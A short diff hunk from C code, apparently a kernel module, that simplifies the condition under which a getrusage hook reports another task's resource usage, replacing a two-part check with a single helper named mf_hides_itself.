@@ -77,7 +77,7 @@ int hook_getrusage(struct task_struct *task, int who, struct rusage *usage)
 	if (likely(task->signal == current->signal))
 		return 0;
 	mf_hook_enter();
-	if (mf_judge_look(task) && !mf_sees_all_names()) {
+	if (mf_hides_itself(task)) {
 		struct rusage whole;
 
 		mf_call_getrusage(task, who, &whole);
